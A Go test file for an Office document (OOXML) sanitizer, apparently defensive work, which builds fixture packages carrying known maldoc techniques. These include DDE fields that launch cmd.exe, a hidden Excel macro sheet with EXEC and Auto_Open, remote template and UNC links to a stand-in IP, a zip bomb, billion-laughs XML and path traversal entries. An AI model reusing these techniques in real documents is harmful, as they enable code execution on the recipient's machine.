package ooxml

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// Fixtures are minimal but valid OOXML packages written here with
// archive/zip; no third-party file is committed.

type entry struct{ name, body string }

const (
	nsW   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	nsX   = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	nsP   = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
	relNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	decl  = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"

	ctDocm = "application/vnd.ms-word.document.macroEnabled.main+xml"
	ctXlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	ctPptm = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
	ctWS   = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
	ctSST  = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
)

// benign is text every fixture's main content carries and every output
// must keep.
const benign = "市役所からのお知らせ BENIGN-TEXT"

func buildZip(t testing.TB, es ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range es {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// types writes [Content_Types].xml: defaults as ext=type pairs, overrides as
// /part=type pairs.
func types(kv ...string) entry {
	var b strings.Builder
	b.WriteString(decl + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`)
	b.WriteString(`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`)
	b.WriteString(`<Default Extension="xml" ContentType="application/xml"/>`)
	for i := 0; i+1 < len(kv); i += 2 {
		if strings.HasPrefix(kv[i], "/") {
			fmt.Fprintf(&b, `<Override PartName="%s" ContentType="%s"/>`, kv[i], kv[i+1])
		} else {
			fmt.Fprintf(&b, `<Default Extension="%s" ContentType="%s"/>`, kv[i], kv[i+1])
		}
	}
	b.WriteString(`</Types>`)
	return entry{"[Content_Types].xml", b.String()}
}

// rels writes a relationships part: triples of id, type (short names get
// the officeDocument prefix), target; a target starting with "ext:" is
// external.
func rels(name string, trip ...string) entry {
	var b strings.Builder
	b.WriteString(decl + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i := 0; i+2 < len(trip); i += 3 {
		typ := trip[i+1]
		if !strings.Contains(typ, "://") {
			typ = relNS + typ
		}
		target, mode := trip[i+2], ""
		if t, ok := strings.CutPrefix(target, "ext:"); ok {
			target, mode = t, ` TargetMode="External"`
		}
		fmt.Fprintf(&b, `<Relationship Id="%s" Type="%s" Target="%s"%s/>`, trip[i], typ, xmlEsc(target), mode)
	}
	b.WriteString(`</Relationships>`)
	return entry{name, b.String()}
}

func xmlEsc(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;").Replace(s)
}

var rootRels = rels("_rels/.rels", "rId1", "officeDocument", "word/document.xml")

// docx returns a Word package whose body holds the benign paragraph and
// body; main is the main content type, docRels the document's
// relationships (triples as for rels), extra more entries.
func docx(t testing.TB, main, body string, docRels []string, extraTypes []string, extra ...entry) []byte {
	es := []entry{
		types(append([]string{"/word/document.xml", main}, extraTypes...)...),
		rootRels,
		{"word/document.xml", decl + `<w:document ` + nsW + `><w:body><w:p><w:r><w:t>` + benign + `</w:t></w:r></w:p>` + body + `<w:sectPr/></w:body></w:document>`},
	}
	if len(docRels) > 0 {
		es = append(es, rels("word/_rels/document.xml.rels", docRels...))
	}
	return buildZip(t, append(es, extra...)...)
}

// xlsx returns a workbook with one worksheet whose cells are given as XML,
// a shared string table holding the benign text, and extras.
func xlsx(t testing.TB, main, cells, names string, wbRels []string, sheetsXML string, extraTypes []string, extra ...entry) []byte {
	es := []entry{
		types(append([]string{"/xl/workbook.xml", main, "/xl/worksheets/sheet1.xml", ctWS, "/xl/sharedStrings.xml", ctSST}, extraTypes...)...),
		rels("_rels/.rels", "rId1", "officeDocument", "xl/workbook.xml"),
		{"xl/workbook.xml", decl + `<workbook ` + nsX + `><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>` + sheetsXML + `</sheets>` + names + `</workbook>`},
		rels("xl/_rels/workbook.xml.rels", append([]string{"rId1", "worksheet", "worksheets/sheet1.xml", "rId9", "sharedStrings", "sharedStrings.xml"}, wbRels...)...),
		{"xl/sharedStrings.xml", decl + `<sst ` + nsX + ` count="1" uniqueCount="1"><si><t>` + benign + `</t></si></sst>`},
		{"xl/worksheets/sheet1.xml", decl + `<worksheet ` + nsX + `><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>` + cells + `</row></sheetData></worksheet>`},
	}
	return buildZip(t, append(es, extra...)...)
}

func pptx(t testing.TB, main, slideBody string, rootExtra, slideRels []string, extraTypes []string, extra ...entry) []byte {
	es := []entry{
		types(append([]string{"/ppt/presentation.xml", main, "/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"}, extraTypes...)...),
		rels("_rels/.rels", append([]string{"rId1", "officeDocument", "ppt/presentation.xml"}, rootExtra...)...),
		{"ppt/presentation.xml", decl + `<p:presentation ` + nsP + `><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>`},
		rels("ppt/_rels/presentation.xml.rels", "rId2", "slide", "slides/slide1.xml"),
		{"ppt/slides/slide1.xml", decl + `<p:sld ` + nsP + `><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>` + benign + `</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld>` + slideBody + `</p:sld>`},
	}
	if len(slideRels) > 0 {
		es = append(es, rels("ppt/slides/_rels/slide1.xml.rels", slideRels...))
	}
	return buildZip(t, append(es, extra...)...)
}

// fixtures are the named hostile and benign inputs; tests and the fuzz
// seeds share them.
type fixture struct {
	name, file string
	in         []byte
	blocked    string   // rule that blocks; "" when the output must cross
	rules      []string // rules that must fire
	keep       []string // strings the output's XML must still hold
}

func fixtures(t testing.TB) []fixture {
	ddeSplit := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>` +
		`<w:r><w:instrText xml:space="preserve">EAUTO c:\\Windows\\System32\\cmd.exe "/k calc.exe"</w:instrText></w:r>` +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>FIELD-RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		`<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c calc&quot;"><w:r><w:t>SIMPLE-RESULT</w:t></w:r></w:fldSimple></w:p>` +
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	ddeNested := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
		`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
		`<w:r><w:instrText xml:space="preserve"> c:\\windows\\system32\\cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	laughs := decl + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
		`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>` +
		`<w:document ` + nsW + `><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`
	return []fixture{
		{name: "benign docx", file: "a.docx", in: docx(t, ctDocx, "", nil, nil), keep: []string{benign}},
		{name: "docm vba", file: "a.docm",
			in: docx(t, ctDocm, "", []string{"rId7", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"},
				[]string{"bin", "application/vnd.ms-office.vbaProject", "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"},
				entry{"word/vbaProject.bin", "\xd0\xcf\x11\xe0 fake VBA storage AutoOpen Shell"},
				entry{"word/vbaData.xml", decl + `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`},
				rels("word/_rels/vbaProject.bin.rels", "rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")),
			rules: []string{RuleVBA, RuleMacroType}, keep: []string{benign}},
		{name: "docx dde split across runs", file: "a.docx", in: docx(t, ctDocx, ddeSplit, nil, nil),
			rules: []string{RuleDDE}, keep: []string{benign, "FIELD-RESULT", "SIMPLE-RESULT", "PAGE"}},
		{name: "docx dde built from nested field", file: "a.docx", in: docx(t, ctDocx, ddeNested, nil, nil),
			rules: []string{RuleDDE}, keep: []string{benign}},
		{name: "xlsm macro sheet and auto_open", file: "a.xlsm",
			in: xlsx(t, ctXlsm, `<c r="B1"><v>42</v></c>`,
				`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Auto_Open2" hidden="1">Macro1!$A$2</definedName><definedName name="Area">Sheet1!$A$1:$B$1</definedName></definedNames>`,
				[]string{"rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"},
				`<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>`,
				[]string{"/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"},
				entry{"xl/macrosheets/sheet1.xml", decl + `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" ` + nsX + `><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`}),
			rules: []string{RuleMacroSheet, RuleMacroType}, keep: []string{benign, "42", "Area"}},
		{name: "xlsx shape with macro assignment", file: "a.xlsx",
			in: xlsx(t, ctXlsx, "", "", nil, "", []string{"/xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml"},
				entry{"xl/worksheets/_rels/sheet1.xml.rels", rels("", "rId1", "drawing", "../drawings/drawing1.xml").body},
				entry{"xl/drawings/drawing1.xml", decl + `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:oneCellAnchor><xdr:sp macro="'\\203.0.113.9\x\[evil.xlsm]Sheet1'!Run" textlink=""><xdr:txBody>SHAPE-TEXT</xdr:txBody></xdr:sp></xdr:oneCellAnchor></xdr:wsDr>`}),
			rules: []string{RuleVBA}, keep: []string{benign, "SHAPE-TEXT", `textlink=""`}},
		{name: "xlsx external link and dde formula", file: "a.xlsx",
			in: xlsx(t, ctXlsx, `<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>5</v></c><c r="D1"><f>SUM(1,2)</f><v>3</v></c><c r="E1"><f>"a|b"&amp;"c"</f><v>a|bc</v></c>`,
				`<externalReferences><externalReference r:id="rId3"/></externalReferences>`,
				[]string{"rId3", "externalLink", "externalLinks/externalLink1.xml"}, "",
				[]string{"/xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
				entry{"xl/externalLinks/externalLink1.xml", decl + `<externalLink ` + nsX + `><externalBook r:id="rId1"/></externalLink>`},
				rels("xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", "externalLinkPath", `ext:\\evil\share\x.xlsx`)),
			rules: []string{RuleDDE, RuleExternal}, keep: []string{benign, "SUM(1,2)", `"a|b"&amp;"c"`, "<v>5</v>"}},
		{name: "pptm customui and activex", file: "a.pptm",
			in: pptx(t, ctPptm, `<p:controls><p:control name="CommandButton1" r:id="rId5" spid="1"/></p:controls>`,
				[]string{"rId3", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"},
				[]string{"rId5", "control", "../activeX/activeX1.xml"},
				[]string{"/ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "bin", "application/vnd.ms-office.activeX", "/customUI/customUI14.xml", "application/xml"},
				entry{"customUI/customUI14.xml", decl + `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"/>`},
				entry{"ppt/activeX/activeX1.xml", decl + `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" r:id="rId1"/>`},
				rels("ppt/activeX/_rels/activeX1.xml.rels", "rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin"),
				entry{"ppt/activeX/activeX1.bin", "binary control"}),
			rules: []string{RuleCustomUI, RuleActiveX, RuleMacroType}, keep: []string{benign}},
		{name: "pptx macro and program actions", file: "a.pptx",
			in: pptx(t, ctPptx, `<p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/></p:cNvPr></p:nvSpPr></p:sp>`+
				`<p:sp><p:nvSpPr><p:cNvPr id="3" name="c"><a:hlinkClick r:id="rId7" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld>`,
				nil, []string{"rId7", "hyperlink", `ext:file:///C:\Windows\System32\calc.exe`}, nil),
			rules: []string{RuleVBA, RuleExternal}, keep: []string{benign}},
		{name: "docx remote template", file: "a.docx",
			in: docx(t, ctDocx, "", []string{"rId2", "settings", "settings.xml"},
				[]string{"/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"},
				entry{"word/settings.xml", decl + `<w:settings ` + nsW + `><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`},
				rels("word/_rels/settings.xml.rels", "rId1", "attachedTemplate", "ext:http://203.0.113.9/t.dotm")),
			rules: []string{RuleTemplate}, keep: []string{benign, "w:zoom"}},
		{name: "docx altchunk", file: "a.docx",
			in: docx(t, ctDocx, `<w:altChunk r:id="rId3"/>`, []string{"rId3", "aFChunk", "afchunk.mht"},
				[]string{"mht", "message/rfc822"}, entry{"word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<script>x</script>"}),
			rules: []string{RuleAltChunk}, keep: []string{benign}},
		{name: "docx ole object and hyperlinks", file: "a.docx",
			in: docx(t, ctDocx, `<w:p><w:hyperlink r:id="rId5"><w:r><w:t>WEB-LINK</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>FILE-LINK</w:t></w:r></w:hyperlink></w:p>`+
				`<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rId4"/></w:object></w:r></w:p>`,
				[]string{"rId4", "oleObject", "embeddings/oleObject1.bin", "rId5", "hyperlink", "ext:https://www.city.example.lg.jp/", "rId6", "hyperlink", `ext:file://\\203.0.113.9\share\x.exe`,
					"rId8", "image", "ext:http://203.0.113.9/track.png"},
				[]string{"bin", "application/vnd.openxmlformats-officedocument.oleObject"},
				entry{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0 Ole10Native MZ"}),
			rules: []string{RuleOLE, RuleHyperlink, RuleExternal}, keep: []string{benign, "WEB-LINK", "FILE-LINK", "https://www.city.example.lg.jp/"}},
		{name: "docx signature", file: "a.docx",
			in: buildZip(t, types("/word/document.xml", ctDocx, "sigs", "application/vnd.openxmlformats-package.digital-signature-origin",
				"/_xmlsignatures/sig1.xml", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"),
				rels("_rels/.rels", "rId1", "officeDocument", "word/document.xml", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs"),
				entry{"word/document.xml", decl + `<w:document ` + nsW + `><w:body><w:p><w:r><w:t>` + benign + `</w:t></w:r></w:p></w:body></w:document>`},
				entry{"_xmlsignatures/origin.sigs", ""},
				rels("_xmlsignatures/_rels/origin.sigs.rels", "rId1", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature", "sig1.xml"),
				entry{"_xmlsignatures/sig1.xml", decl + `<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>`}),
			rules: []string{RuleSignature}, keep: []string{benign}},
		{name: "zip bomb part", file: "a.docx",
			in:      docx(t, ctDocx, "", []string{"rId2", "styles", "styles.xml"}, nil, entry{"word/styles.xml", decl + "<w:styles " + nsW + ">" + strings.Repeat(" ", 4<<20) + "</w:styles>"}),
			blocked: RuleBomb},
		{name: "billion laughs", file: "a.docx", in: buildZip(t, types("/word/document.xml", ctDocx), rootRels, entry{"word/document.xml", laughs}), blocked: RuleDTD},
		{name: "traversal", file: "a.docx", in: docx(t, ctDocx, "", nil, nil, entry{"../../evil.xml", "<x/>"}), blocked: RulePath},
		{name: "absolute path", file: "a.docx", in: docx(t, ctDocx, "", nil, nil, entry{"/etc/evil.xml", "<x/>"}), blocked: RulePath},
		{name: "backslash", file: "a.docx", in: docx(t, ctDocx, "", nil, nil, entry{`word\..\..\evil.xml`, "<x/>"}), blocked: RulePath},
		{name: "duplicate names", file: "a.docx", in: docx(t, ctDocx, "", nil, nil, entry{"WORD/document.xml", "<x/>"}), blocked: RuleDuplicate},
		{name: "local header disagrees", file: "a.docx", in: corruptLocalName(docx(t, ctDocx, "", nil, nil)), blocked: RuleZip},
		{name: "orphan part", file: "a.docx", in: docx(t, ctDocx, "", nil, nil, entry{"word/hidden.xml", "<x/>"}), rules: []string{RulePart}, keep: []string{benign}},
	}
}

// corruptLocalName changes the first letter of the first local header's
// name, leaving the central directory as it was.
func corruptLocalName(b []byte) []byte {
	b = bytes.Clone(b)
	b[30] ^= 0x20
	return b
}
